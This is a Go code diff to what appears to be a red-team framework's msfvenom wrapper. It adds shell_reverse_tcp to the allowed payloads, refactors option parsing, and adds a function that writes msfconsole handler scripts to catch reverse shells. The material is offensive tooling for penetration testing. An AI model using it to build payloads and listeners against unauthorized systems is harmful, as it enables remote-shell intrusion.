@@ -23,6 +23,7 @@ import (
 	"fmt"
 	"net/url"
 	"os/exec"
+	"sort"
 	"strconv"
 	"strings"
 
@@ -63,11 +64,14 @@ var (
 			"custom/reverse_winhttp":    true,
 			"custom/reverse_winhttps":   true,
 			"custom/reverse_tcp":        true,
+			"shell_reverse_tcp":         true,
+			"shell/reverse_tcp":         true,
 		},
 		"linux": {
 			"meterpreter_reverse_http":  true,
 			"meterpreter_reverse_https": true,
 			"meterpreter_reverse_tcp":   true,
+			"shell_reverse_tcp":         true,
 		},
 		"osx": {
 			"meterpreter_reverse_http":  true,
@@ -151,11 +155,7 @@ func VenomPayload(config VenomConfig) ([]byte, error) {
 		return nil, fmt.Errorf(fmt.Sprintf("Invalid format: %s", config.Format))
 	}
 
-	target := config.Os
-	if config.Arch == "x64" {
-		target = strings.Join([]string{config.Os, config.Arch}, sep)
-	}
-	payload := strings.Join([]string{target, config.Payload}, sep)
+	payload := PayloadName(config)
 
 	// LURI handling for HTTP stager
 	luri := config.Luri
@@ -163,18 +163,9 @@ func VenomPayload(config VenomConfig) ([]byte, error) {
 		luri = fmt.Sprintf("LURI=%s", luri)
 	}
 
-	// Parse advanced options
-	advancedOptions := make(map[string]string)
-	if config.AdvOptions != "" {
-		options, err := url.ParseQuery(config.AdvOptions)
-		if err != nil {
-			return nil, fmt.Errorf("could not parse provided advanced options: %s", err.Error())
-		}
-		for option, value := range options {
-			// Options should only be specified once,
-			// so if a given option is specified more than once, use the last value
-			advancedOptions[option] = value[len(value)-1]
-		}
+	advancedOptions, err := parseAdvancedOptions(config.AdvOptions)
+	if err != nil {
+		return nil, err
 	}
 
 	args := []string{
@@ -217,6 +208,62 @@ func VenomPayload(config VenomConfig) ([]byte, error) {
 	return venomCmd(args)
 }
 
+// PayloadName - The full name of the config's payload, e.g. windows/x64/meterpreter/reverse_tcp
+func PayloadName(config VenomConfig) string {
+	target := config.Os
+	if config.Arch == "x64" {
+		target = strings.Join([]string{config.Os, config.Arch}, sep)
+	}
+	return strings.Join([]string{target, config.Payload}, sep)
+}
+
+// HandlerScript - A msfconsole resource script that starts an exploit/multi/handler
+// for the config's payload, run it with "msfconsole -r handler.rc"
+func HandlerScript(config VenomConfig) (string, error) {
+	advancedOptions, err := parseAdvancedOptions(config.AdvOptions)
+	if err != nil {
+		return "", err
+	}
+	script := &strings.Builder{}
+	fmt.Fprintf(script, "use exploit/multi/handler\n")
+	fmt.Fprintf(script, "set PAYLOAD %s\n", PayloadName(config))
+	fmt.Fprintf(script, "set LHOST %s\n", config.LHost)
+	fmt.Fprintf(script, "set LPORT %d\n", config.LPort)
+	if config.Luri != "" {
+		fmt.Fprintf(script, "set LURI %s\n", config.Luri)
+	}
+	options := []string{}
+	for option := range advancedOptions {
+		options = append(options, option)
+	}
+	sort.Strings(options)
+	for _, option := range options {
+		fmt.Fprintf(script, "set %s %s\n", option, advancedOptions[option])
+	}
+	fmt.Fprintf(script, "set EXITFUNC thread\n")
+	fmt.Fprintf(script, "set ExitOnSession false\n")
+	fmt.Fprintf(script, "exploit -j\n")
+	return script.String(), nil
+}
+
+// parseAdvancedOptions - Parse advanced options in URI query syntax (option1=value1&option2=value2)
+func parseAdvancedOptions(advOptions string) (map[string]string, error) {
+	advancedOptions := make(map[string]string)
+	if advOptions == "" {
+		return advancedOptions, nil
+	}
+	options, err := url.ParseQuery(advOptions)
+	if err != nil {
+		return nil, fmt.Errorf("could not parse provided advanced options: %s", err.Error())
+	}
+	for option, value := range options {
+		// Options should only be specified once,
+		// so if a given option is specified more than once, use the last value
+		advancedOptions[option] = value[len(value)-1]
+	}
+	return advancedOptions, nil
+}
+
 // venomCmd - Execute a msfvenom command
 func venomCmd(args []string) ([]byte, error) {
 	msfLog.Printf("%s %v", venomBin, args)